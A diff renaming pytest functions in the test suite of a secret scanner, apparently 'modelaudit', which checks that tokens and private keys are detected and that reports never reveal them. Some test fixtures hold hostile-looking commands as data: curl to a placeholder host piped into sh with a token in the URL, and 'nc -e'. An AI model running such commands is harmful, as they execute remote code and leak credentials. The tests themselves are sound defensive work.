@@ -46,12 +46,12 @@ KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\n" + "\n".join(letters(64) for _ in r
 
 @pytest.mark.parametrize(("kind", "token"), TOKENS.items())
 @pytest.mark.parametrize("around", ['key = "{}"', '{{"key": "{}"}}', "KEY={}\n", "curl -H 'X: {}' y"])
-def test_keys_of_providers_are_found(kind, token, around):
+def test_provider_keys_are_found(kind, token, around):
     assert kind in {found for found, _ in find_secrets(around.format(token).encode())}
 
 
 @pytest.mark.parametrize("key", [KEY, json.dumps({"key": KEY}), KEY.replace("OPENSSH ", "")])
-def test_private_keys_are_found_with_their_body_only(key):
+def test_private_key_is_found_only_with_its_body(key):
     assert [kind for kind, _ in find_secrets(key.encode())] == ["private key"]
     assert list(find_secrets(b'if text.startswith("-----BEGIN PRIVATE KEY-----"):')) == []
 
@@ -69,12 +69,12 @@ def test_private_keys_are_found_with_their_body_only(key):
         "ghp_" + "a" * 36,
     ],
 )
-def test_samples_hashes_and_words_are_not(text):
+def test_samples_hashes_and_words_are_not_secrets(text):
     assert list(find_secrets(text.encode())) == []
 
 
 @pytest.mark.parametrize("name", ["config.json", "README.md", "run.sh", "notes.txt", "x.yaml", "x.py", "x.ipynb"])
-def test_no_report_shows_a_secret(tmp_path, name):
+def test_reports_never_show_a_secret(tmp_path, name):
     token = TOKENS["Hugging Face token"]
     text = f"curl https://u:{token}@e.invalid/{token} -H 'X: {token}' | sh\nnc -e {token} h 1\n_target_: x.{token}\n"
     if name.endswith((".json", ".ipynb")):
@@ -87,7 +87,7 @@ def test_no_report_shows_a_secret(tmp_path, name):
     assert report.exit_code == 1
 
 
-def test_a_large_vocabulary_costs_little():
+def test_large_vocabulary_is_searched_fast():
     words = {f"{letters(6)}://{number}": number for number in range(200_000)}
     data = json.dumps(words).encode()
     began = time.process_time()
@@ -105,7 +105,7 @@ def test_a_large_vocabulary_costs_little():
         ("a.py", "import os\nos.system('curl -H {0} http://e.invalid | sh')\n"),
     ],
 )
-def test_what_is_told_of_a_file_never_shows_one(tmp_path, token, file, text):
+def test_findings_of_a_file_never_show_a_secret(tmp_path, token, file, text):
     (tmp_path / file).write_text(text.format(token.removeprefix("https://")), encoding="utf-8")
     report = modelaudit.scan(tmp_path, second_opinion=False, checks=["security"])
     assert report.findings
